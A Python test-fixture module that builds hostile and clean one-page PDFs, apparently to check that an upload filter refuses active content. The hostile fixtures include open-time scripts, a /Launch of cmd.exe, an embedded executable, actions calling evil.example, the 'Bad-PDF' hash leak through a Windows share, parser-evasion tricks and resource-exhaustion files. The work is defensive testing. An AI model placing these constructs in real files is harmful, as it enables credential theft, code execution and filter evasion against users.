"""PDFs that act when opened, one per construct, and clean ones that must pass; all written at
test time (by pypdf, or byte by byte where pypdf's writer cannot say it: object streams,
names written with #xx escapes, a broken cross-reference table, a duplicate definition).

Every hostile file has one page and is otherwise plain, so that the construct it carries is
the only reason to refuse it.
"""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable, Collection
from io import BytesIO

from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

SCRIPT = "app.alert('opened');"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def name(value: str) -> NameObject:
    return NameObject(value)


def pdf_dict(**entries: PdfObject) -> DictionaryObject:
    """A dictionary from keyword arguments: `S=name("/GoTo")` is `/S /GoTo`."""
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def rect(*numbers: float) -> ArrayObject:
    return ArrayObject(FloatObject(n) for n in numbers)


def javascript() -> DictionaryObject:
    return pdf_dict(Type=name("/Action"), S=name("/JavaScript"), JS=TextStringObject(SCRIPT))


def written(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def one_page(change: Callable[[PdfWriter, DictionaryObject], None] | None = None) -> bytes:
    """A one-page PDF from pypdf's writer, with text on it, after `change(writer, page)`."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    font = pdf_dict(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica"))
    page[NameObject("/Resources")] = pdf_dict(Font=pdf_dict(F1=writer._add_object(font)))
    text = DecodedStreamObject()
    text.set_data(b"BT /F1 12 Tf 72 770 Td (Dossier de candidature) Tj ET")
    page[NameObject("/Contents")] = writer._add_object(text)
    if change is not None:
        change(writer, page)
    return written(writer)


def annotate(writer: PdfWriter, page: DictionaryObject, annotation: DictionaryObject) -> None:
    annotation.setdefault(NameObject("/Type"), name("/Annot"))
    annotation.setdefault(NameObject("/Rect"), rect(72, 700, 272, 720))
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def link_doing(action: DictionaryObject) -> bytes:
    return one_page(lambda w, p: annotate(w, p, pdf_dict(Subtype=name("/Link"), A=action)))


def form_field(writer: PdfWriter, page: DictionaryObject, **extra: PdfObject) -> None:
    """A text field of an AcroForm, its widget on the page, with `extra` entries."""
    field = pdf_dict(
        Type=name("/Annot"),
        Subtype=name("/Widget"),
        FT=name("/Tx"),
        T=TextStringObject("association_name"),
        Rect=rect(72, 600, 372, 620),
        P=page.indirect_reference,
        **extra,
    )
    ref = writer._add_object(field)
    page[NameObject("/Annots")] = ArrayObject([ref])
    writer._root_object[NameObject("/AcroForm")] = pdf_dict(Fields=ArrayObject([ref]))


def embedded_file(writer: PdfWriter, typed: bool) -> PdfObject:
    """A file specification holding a file; the stream's /Type is optional in PDF."""
    stream = DecodedStreamObject()
    stream.set_data(b"MZ\x90\x00 a program")
    if typed:
        stream[NameObject("/Type")] = name("/EmbeddedFile")
    return pdf_dict(
        Type=name("/Filespec"),
        F=TextStringObject("setup.exe"),
        EF=pdf_dict(F=writer._add_object(stream)),
    )


def page_script(writer: PdfWriter, page: DictionaryObject) -> None:
    page[NameObject("/AA")] = pdf_dict(O=javascript())  # run when the page is opened


def xfa_form(writer: PdfWriter, page: DictionaryObject) -> None:
    """An AcroForm that also carries an XFA form (XML, which can hold scripts)."""
    form_field(writer, page)
    writer._root_object["/AcroForm"][NameObject("/XFA")] = TextStringObject("<xdp:xdp/>")


def attachment_annotation(typed: bool) -> bytes:
    def change(writer: PdfWriter, page: DictionaryObject) -> None:
        annotation = pdf_dict(Subtype=name("/FileAttachment"), FS=embedded_file(writer, typed))
        annotate(writer, page, annotation)

    return one_page(change)


def raw_pdf(objects: dict[int, bytes], *, packed: Collection[int] = (), xref: bool = True) -> bytes:
    """A PDF written byte by byte: `objects` by number, each body as written between `obj`
    and `endobj`, the catalog being object 1. Those in `packed` go compressed into one
    object stream, which a cross-reference stream then indexes; without `xref`, the file
    has no cross-reference section (a reader has to repair it)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    packed = set(packed)
    for number, body in sorted(objects.items()):
        if number not in packed:
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not xref:
        # startxref points into the header: the reader has to find the objects itself
        return bytes(out + b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n")
    size = max(objects) + 1
    if not packed:
        start = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number]
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
        return bytes(out)
    stream_number, xref_number = size, size + 1
    offsets[stream_number] = len(out)
    out += object_stream(stream_number, {number: objects[number] for number in packed})
    place = {number: index for index, number in enumerate(sorted(packed))}
    rows = bytearray(b"\x00\x00\x00\x00\x00\x00\x00\xff\xff")  # object 0: free
    for number in range(1, xref_number + 1):
        if number in place:
            rows += b"\x02" + stream_number.to_bytes(4, "big") + place[number].to_bytes(4, "big")
        elif number == xref_number:
            rows += b"\x01" + len(out).to_bytes(4, "big") + b"\x00\x00\x00\x00"
        else:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00\x00\x00"
    start = len(out)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Length %d >>\n" % (
        xref_number,
        xref_number + 1,
        len(rows),
    )
    out += b"stream\n" + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def object_stream(number: int, objects: dict[int, bytes]) -> bytes:
    """The definition of object stream `number` holding `objects`: "number offset" pairs,
    then the bodies, compressed together."""
    index, bodies, at = [], [], 0
    for packed in sorted(objects):
        index.append(b"%d %d" % (packed, at))
        bodies.append(objects[packed] + b"\n")
        at += len(bodies[-1])
    header = b" ".join(index) + b"\n"
    squeezed = zlib.compress(header + b"".join(bodies))
    head = b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>" % (
        len(objects),
        len(header),
        len(squeezed),
    )
    return b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (number, head, squeezed)


def raw_page(extra: bytes = b"") -> dict[int, bytes]:
    """Catalog, page tree and one page (objects 1 to 3), the page with `extra` entries."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>" % extra
    return {1: CATALOG, 2: PAGES, 3: page}


def page_script_escaped() -> bytes:
    """The page's open action, every name in it written with #xx escapes."""
    action = b"<< /O << /S /Java#53cript /J#53 (%s) >> >>" % SCRIPT.encode()
    return raw_pdf(raw_page(b"/A#41 " + action))


def script_in_object_stream() -> bytes:
    """A link's script in a compressed object stream: nothing of it readable in the file."""
    objects = raw_page(b"/Annots [4 0 R]")
    objects[4] = b"<< /Type /Annot /Subtype /Link /Rect [72 700 272 720] /A 5 0 R >>"
    objects[5] = b"<< /S /JavaScript /JS (%s) >>" % SCRIPT.encode()
    return raw_pdf(objects, packed={4, 5})


def broken_xref() -> bytes:
    """No cross-reference section, and startxref points nowhere: a reader finds the objects
    by scanning the file."""
    objects = raw_page(b"/AA << /O 4 0 R >>")
    objects[4] = b"<< /S /JavaScript /JS (%s) >>" % SCRIPT.encode()
    return raw_pdf(objects, xref=False)


def incremental_update() -> bytes:
    """A clean file, then a later revision (appended, as editors save) that adds a script to
    its page: the first revision alone is clean."""
    writer = PdfWriter(BytesIO(one_page()), incremental=True)
    writer.pages[0][NameObject("/AA")] = pdf_dict(O=javascript())
    return written(writer)


def before_xref(data: bytes, inserted: bytes) -> bytes:
    """`inserted` written just before the cross-reference table of a raw_pdf, whose offsets
    stay right: only startxref moves."""
    position = data.index(b"xref\n")
    start = int(re.findall(rb"startxref\n(\d+)", data)[-1]) + len(inserted)
    patched = data[:position] + inserted + data[position:]
    return re.sub(rb"startxref\n\d+", b"startxref\n%d" % start, patched)


def duplicate_definition() -> bytes:
    """The page defined twice: the cross-reference table points at the clean one, but a
    viewer that repairs the file takes the last one, which runs a script."""
    hostile = b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << "
    hostile += b"/S /JavaScript /JS (%s) >> >> >>\nendobj\n" % SCRIPT.encode()
    return before_xref(raw_pdf(raw_page()), hostile)


def orphan_object_stream() -> bytes:
    """A script action packed in an object stream that no cross-reference lists."""
    packed = object_stream(4, {5: b"<< /S /JavaScript /JS (%s) >>" % SCRIPT.encode()})
    return before_xref(raw_pdf(raw_page()), packed)


def orphan_script() -> bytes:
    """A script action that nothing refers to: only a walk of every object finds it."""
    objects = raw_page()
    objects[4] = b"<< /S /JavaScript /JS (%s) >>" % SCRIPT.encode()
    return raw_pdf(objects)


def outline_script() -> bytes:
    def change(writer: PdfWriter, page: DictionaryObject) -> None:
        item = writer.add_outline_item(title="Budget", page_number=0)
        item.get_object()[NameObject("/A")] = javascript()

    return one_page(change)


def named_script() -> bytes:
    """A document-level script, in the catalog's /Names tree."""

    def change(writer: PdfWriter, page: DictionaryObject) -> None:
        leaf = pdf_dict(Names=ArrayObject([TextStringObject("init"), javascript()]))
        tree = pdf_dict(Kids=ArrayObject([writer._add_object(leaf)]))
        writer._root_object[NameObject("/Names")] = pdf_dict(JavaScript=tree)

    return one_page(change)


# A file on a Windows share: a viewer that opens it sends the user's name and password hash
# to the server (the "Bad-PDF" attack); and an address outside.
SHARE = "\\\\10.0.0.1\\share\\x.pdf"
SHARE_WRITTEN = b"(%s)" % SHARE.replace("\\", "\\\\").encode()  # a literal string: \\ is \
OUTSIDE = "https://evil.example/opened"


def remote_go_to(file: str = SHARE) -> DictionaryObject:
    return pdf_dict(
        S=name("/GoToR"), F=TextStringObject(file), D=ArrayObject([NumberObject(0), name("/Fit")])
    )


def web_page(address: str = OUTSIDE) -> DictionaryObject:
    return pdf_dict(Type=name("/Action"), S=name("/URI"), URI=TextStringObject(address))


def on_open(action: DictionaryObject) -> bytes:
    """The page's additional actions run `action` as soon as the page is shown."""

    def change(writer: PdfWriter, page: DictionaryObject) -> None:
        page[NameObject("/AA")] = pdf_dict(O=action)

    return one_page(change)


def media_annotation(subtype: str, **entries: PdfObject) -> bytes:
    """An annotation of a multimedia `subtype`, with its data in a stream of that /Type."""

    def change(writer: PdfWriter, page: DictionaryObject) -> None:
        stream = DecodedStreamObject()
        stream.set_data(b"\x00" * 64)
        stream[NameObject("/Type")] = name(subtype)
        annotation = pdf_dict(Subtype=name(subtype), **entries)
        annotation[NameObject(subtype)] = writer._add_object(stream)
        annotate(writer, page, annotation)

    return one_page(change)


def link_with_additional_actions() -> bytes:
    """A link to a web page (harmless, once clicked) that also goes to the first page as soon
    as the pointer enters it: the action is harmless, additional actions are not."""
    first_page = pdf_dict(S=name("/GoTo"), D=ArrayObject([NumberObject(0), name("/Fit")]))
    link = pdf_dict(Subtype=name("/Link"), A=web_page(), AA=pdf_dict(E=first_page))
    return one_page(lambda w, p: annotate(w, p, link))


def catalog_actions() -> bytes:
    """The document's additional actions: a web page fetched once it is printed."""

    def change(writer: PdfWriter, page: DictionaryObject) -> None:
        writer._root_object[NameObject("/AA")] = pdf_dict(DP=web_page())

    return one_page(change)


def sub_page_navigation() -> bytes:
    """Presentation steps: the viewer runs a step's action (/NA) after /Dur seconds."""

    def change(writer: PdfWriter, page: DictionaryObject) -> None:
        step = pdf_dict(Type=name("/NavNode"), NA=web_page(), Dur=NumberObject(1))
        page[NameObject("/PresSteps")] = step

    return one_page(change)


def catalog_open_action_duplicate() -> bytes:
    """The catalog defined twice: the cross-reference table points at a plain one, but a
    viewer that repairs the file takes the last, which fetches a web page when opened."""
    hostile = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (%s) >> >>"
    hostile += b"\nendobj\n"
    return before_xref(raw_pdf(raw_page()), hostile % OUTSIDE.encode())


def raw_catalog(
    open_action: bytes, objects: dict[int, bytes] | None = None, packed: Collection[int] = ()
) -> bytes:
    """A raw one-page file whose catalog has `open_action` as its /OpenAction, with more
    `objects`, those in `packed` in an object stream."""
    written = raw_page() | (objects or {})
    written[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % open_action
    return raw_pdf(written, packed=packed)


GO_TO_FIRST_PAGE = b"<< /S /GoTo /D [3 0 R /Fit] >>"


def open_action_defined_twice() -> bytes:
    """The catalog's /OpenAction refers to a /GoTo to the first page; a second definition of
    that object, which a repairing viewer could take, opens a web page."""
    second = b"4 0 obj\n<< /S /URI /URI (%s) >>\nendobj\n" % OUTSIDE.encode()
    return before_xref(raw_catalog(b"4 0 R", {4: GO_TO_FIRST_PAGE}), second)


def action_type_in_its_own_object() -> bytes:
    """A link whose action's type is a reference to a name: /S 6 0 R, 6 being /GoToR."""
    objects = raw_page(b"/Annots [4 0 R]")
    objects[4] = b"<< /Type /Annot /Subtype /Link /Rect [72 700 272 720] /A 5 0 R >>"
    objects[5] = b"<< /S 6 0 R /F %s /D [0 /Fit] >>" % SHARE_WRITTEN
    objects[6] = b"/GoToR"
    return raw_pdf(objects)


def escaped_remote_go_to_in_object_stream() -> bytes:
    """A link to a share, its action's type written /Go#54oR, packed in an object stream."""
    objects = raw_page(b"/Annots [4 0 R]")
    objects[4] = b"<< /Type /Annot /Subtype /Link /Rect [72 700 272 720] /A 5 0 R >>"
    objects[5] = b"<< /S /Go#54oR /F %s /D [0 /Fit] >>" % SHARE_WRITTEN
    return raw_pdf(objects, packed={4, 5})


def next_loop() -> bytes:
    """A link to a web page (harmless) whose /Next actions loop, one of them to a share."""
    objects = raw_page(b"/Annots [4 0 R]")
    objects[4] = b"<< /Type /Annot /Subtype /Link /Rect [72 700 272 720] /A 5 0 R >>"
    objects[5] = b"<< /S /URI /URI (https://example.org/) /Next 6 0 R >>"
    objects[6] = b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R 7 0 R] >>"
    objects[7] = b"<< /S /GoToR /F %s /D [0 /Fit] /Next 5 0 R >>" % SHARE_WRITTEN
    return raw_pdf(objects)


# One PDF per construct, each refused as active content.
HOSTILE: dict[str, Callable[[], bytes]] = {
    "page /AA script": lambda: one_page(page_script),
    "link /A /JavaScript": lambda: link_doing(javascript()),
    "link /Launch": lambda: link_doing(pdf_dict(S=name("/Launch"), F=TextStringObject("cmd.exe"))),
    "form field /AA script": lambda: one_page(
        lambda w, p: form_field(w, p, AA=pdf_dict(K=javascript()))
    ),
    "button /SubmitForm": lambda: one_page(
        lambda w, p: form_field(
            w, p, A=pdf_dict(S=name("/SubmitForm"), F=TextStringObject("https://evil.example"))
        )
    ),
    "link /ImportData": lambda: link_doing(
        pdf_dict(S=name("/ImportData"), F=TextStringObject("data.fdf"))
    ),
    "/RichMedia annotation": lambda: one_page(
        lambda w, p: annotate(w, p, pdf_dict(Subtype=name("/RichMedia")))
    ),
    "attachment annotation, /Type /EmbeddedFile": lambda: attachment_annotation(typed=True),
    "attachment annotation, untyped /EF": lambda: attachment_annotation(typed=False),
    "link /GoToE": lambda: link_doing(
        pdf_dict(S=name("/GoToE"), T=pdf_dict(R=name("/C"), N=TextStringObject("x.pdf")))
    ),
    "AcroForm /XFA": lambda: one_page(xfa_form),
    "/Names /JavaScript tree": named_script,
    "catalog /Names /EmbeddedFiles": lambda: one_page(
        lambda w, p: w.add_attachment("setup.exe", b"MZ\x90\x00")
    ),
    "outline item script": outline_script,
    "chained /Next script": lambda: link_doing(
        pdf_dict(S=name("/GoTo"), D=ArrayObject([NumberObject(0), name("/Fit")]), Next=javascript())
    ),
    "names with #xx escapes": page_script_escaped,
    "script in an object stream": script_in_object_stream,
    "broken xref, repaired": broken_xref,
    "incremental update": incremental_update,
    "duplicate object definition": duplicate_definition,
    "orphan script object": orphan_script,
    "orphan object stream": orphan_object_stream,
    # Actions that reach outside, or that run with no click: the tester's report.
    "page /AA /GoToR to a share (Bad-PDF)": lambda: on_open(remote_go_to()),
    "page /AA /URI": lambda: on_open(web_page()),
    "page /AA /Rendition": lambda: on_open(pdf_dict(S=name("/Rendition"), OP=NumberObject(0))),
    "page /AA /Named /Print": lambda: on_open(pdf_dict(S=name("/Named"), N=name("/Print"))),
    "/Sound annotation": lambda: media_annotation("/Sound", Name=name("/Speaker")),
    "/Movie annotation": lambda: media_annotation("/Movie"),
    "/3D annotation": lambda: media_annotation("/3D"),
    "link /GoToR to a share": lambda: link_doing(remote_go_to()),
    "link /Thread of another file": lambda: link_doing(
        pdf_dict(S=name("/Thread"), F=TextStringObject(SHARE), D=NumberObject(0))
    ),
    "link /Sound": lambda: link_doing(pdf_dict(S=name("/Sound"))),
    "link /Movie": lambda: link_doing(pdf_dict(S=name("/Movie"), T=TextStringObject("clip"))),
    "link /RichMediaExecute": lambda: link_doing(
        pdf_dict(S=name("/RichMediaExecute"), CMD=pdf_dict(C=TextStringObject("play")))
    ),
    "link /AA, harmless action": link_with_additional_actions,
    "form field /AA /URI": lambda: one_page(
        lambda w, p: form_field(w, p, AA=pdf_dict(Fo=web_page()))
    ),
    "catalog /AA": catalog_actions,
    "page /PresSteps": sub_page_navigation,
    "/OpenAction in a duplicate catalog": catalog_open_action_duplicate,
    "action type in its own object": action_type_in_its_own_object,
    "escaped /GoToR in an object stream": escaped_remote_go_to_in_object_stream,
    "/Next loop to a share": next_loop,
    # What opens with the document: any action, whatever it does; a destination (the page to
    # open at) passes, but not with an action inside it.
    "catalog /OpenAction /URI": lambda: raw_catalog(b"<< /S /URI /URI (%s) >>" % OUTSIDE.encode()),
    "catalog /OpenAction /GoTo, then /Next /URI": lambda: raw_catalog(
        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (%s) >> >>" % OUTSIDE.encode()
    ),
    "catalog /OpenAction, a reference to /URI": lambda: raw_catalog(
        b"4 0 R", {4: b"<< /S /URI /URI (%s) >>" % OUTSIDE.encode()}
    ),
    "catalog /OpenAction to a /GoTo defined twice": open_action_defined_twice,
    "catalog /OpenAction destination holding a script": lambda: raw_catalog(
        b"[3 0 R /Fit << /S /JavaScript /JS (%s) >>]" % SCRIPT.encode()
    ),
}


def uri_link() -> bytes:
    def change(writer: PdfWriter, page: DictionaryObject) -> None:
        writer.add_annotation(0, Link(rect=(72, 700, 272, 720), url="https://example.org/"))

    return one_page(change)


def outline() -> bytes:
    def change(writer: PdfWriter, page: DictionaryObject) -> None:
        chapter = writer.add_outline_item(title="Budget", page_number=0)
        writer.add_outline_item(title="Co-financing", page_number=0, parent=chapter)

    return one_page(change)


def reference_cycle() -> bytes:
    """Two objects that refer to each other (as /Parent and /Kids do): the walk ends."""
    objects = raw_page(b"/Annots [4 0 R]")
    objects[4] = b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Popup 5 0 R /P 3 0 R >>"
    objects[5] = b"<< /Type /Annot /Subtype /Popup /Rect [0 0 9 9] /Parent 4 0 R >>"
    return raw_pdf(objects, packed={5})


def uri_link_as_word_processors_write_it() -> bytes:
    """A link to a web page, its action in an object of its own (LibreOffice, Word)."""
    objects = raw_page(b"/Annots [4 0 R]")
    objects[4] = (
        b"<< /Type /Annot /Subtype /Link /Border [0 0 0] /Rect [72 700 272 720] /A 5 0 R >>"
    )
    objects[5] = b"<< /Type /Action /S /URI /URI (https://www.sgg.gov.ma/) >>"
    return raw_pdf(objects)


def outline_to_a_web_page() -> bytes:
    def change(writer: PdfWriter, page: DictionaryObject) -> None:
        item = writer.add_outline_item(title="Texte de loi", page_number=0).get_object()
        assert isinstance(item, DictionaryObject)
        item[NameObject("/A")] = web_page("https://www.sgg.gov.ma/")

    return one_page(change)


def opening_at(writer: PdfWriter, page: DictionaryObject) -> None:
    writer.open_destination = writer.pages[0]  # the catalog's /OpenAction [page /Fit]


def tagged_document() -> bytes:
    """A tagged PDF (PDF/UA-1) from a real producer, WeasyPrint, as the portal's guides are:
    a structure tree, bookmarks, a link to a web page and one within the document."""
    from weasyprint import HTML  # slow to import: only this file needs it

    html = """<html lang="fr"><head><title>Statuts</title></head><body><h1>Statuts</h1>
    <p>Vu le <a href="https://www.sgg.gov.ma/">dahir</a> et l'<a href="#art2">article 2</a>.</p>
    <h2 id="art2">Article 2</h2><p>Le siège de l'association est fixé à Lyon.</p></body></html>"""
    document: bytes = HTML(string=html).write_pdf(pdf_variant="pdf/ua-1")
    return document


# Files an association sends every day: each must pass.
CLEAN: dict[str, Callable[[], bytes]] = {
    "plain text": one_page,
    "URI link": uri_link,
    "outline": outline,
    "AcroForm text field, no action": lambda: one_page(form_field),
    "reference cycle, object stream": reference_cycle,
    "names with #xx escapes, harmless": lambda: raw_pdf(raw_page(b"/Rot#61te 0")),
    "URI link, its action in its own object": uri_link_as_word_processors_write_it,
    "outline item to a web page": outline_to_a_web_page,
    "link /Named /NextPage": lambda: link_doing(pdf_dict(S=name("/Named"), N=name("/NextPage"))),
    "tagged PDF/UA-1 from WeasyPrint": tagged_document,
    "opens at the first page, as LibreOffice writes it": lambda: raw_catalog(
        b"[3 0 R /XYZ null null 0]"
    ),
    "opens at the first page, as pypdf writes it": lambda: one_page(opening_at),
    "opens at the first page by a /GoTo action": lambda: raw_catalog(
        b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>"
    ),
    "opens at the first page, as LaTeX writes it": lambda: raw_catalog(
        b"4 0 R", {4: GO_TO_FIRST_PAGE}
    ),
    "opens at the first page, as LaTeX writes it, compressed": lambda: raw_catalog(
        b"4 0 R", {4: GO_TO_FIRST_PAGE}, packed={1, 4}
    ),
}


def many_pages(pages: int) -> bytes:
    """A long clean document: text on every page, a link on each, a bookmark per page."""
    writer = PdfWriter()
    font = writer._add_object(
        pdf_dict(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica"))
    )
    for number in range(pages):
        page = writer.add_blank_page(width=595, height=842)
        page[NameObject("/Resources")] = pdf_dict(Font=pdf_dict(F1=font))
        text = DecodedStreamObject()
        lines = b"".join(b"(Ligne %d de la page %d) Tj T* " % (n, number) for n in range(40))
        text.set_data(b"BT /F1 10 Tf 14 TL 72 780 Td " + lines + b"ET")
        page[NameObject("/Contents")] = writer._add_object(text.flate_encode())
        writer.add_annotation(number, Link(rect=(72, 40, 272, 60), url="https://example.org/"))
        writer.add_outline_item(title=f"Page {number + 1}", page_number=number)
    return written(writer)


def too_many_objects(count: int, packed: bool = False) -> bytes:
    """A one-page file of `count` more objects, each `null`, plain or in an object stream."""
    objects = raw_page()
    numbers = range(4, count + 4)
    objects.update(dict.fromkeys(numbers, b"null"))
    return raw_pdf(objects, packed=numbers if packed else ())


def unclosed_dictionaries(count: int) -> bytes:
    """A clean file, then `count` definitions that each open a dictionary and never close
    it (the reviewer's 8 KB upload is 800): read leniently, each one is parsed to the end
    of the file, through all those after it."""
    return raw_pdf(raw_page()) + b"9 0 obj<<\n" * count


def unreadable_definitions(count: int) -> bytes:
    """A clean file with `count` definitions that pypdf cannot parse, before its table."""
    extra = b"".join(b"%d 0 obj\n)\nendobj\n" % number for number in range(4, count + 4))
    return before_xref(raw_pdf(raw_page()), extra)


def inflating_object_streams(count: int, size: int) -> bytes:
    """A clean file with `count` object streams that no cross-reference lists, each of one
    object and `size` bytes once decompressed (mostly zeros: a few kilobytes compressed)."""
    content = b"4 0 null" + b"\0" * (size - 8)
    squeezed = zlib.compress(content, 9)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(squeezed)
    streams = b"".join(
        b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (100 + n, head, squeezed)
        for n in range(count)
    )
    return before_xref(raw_pdf(raw_page()), streams)
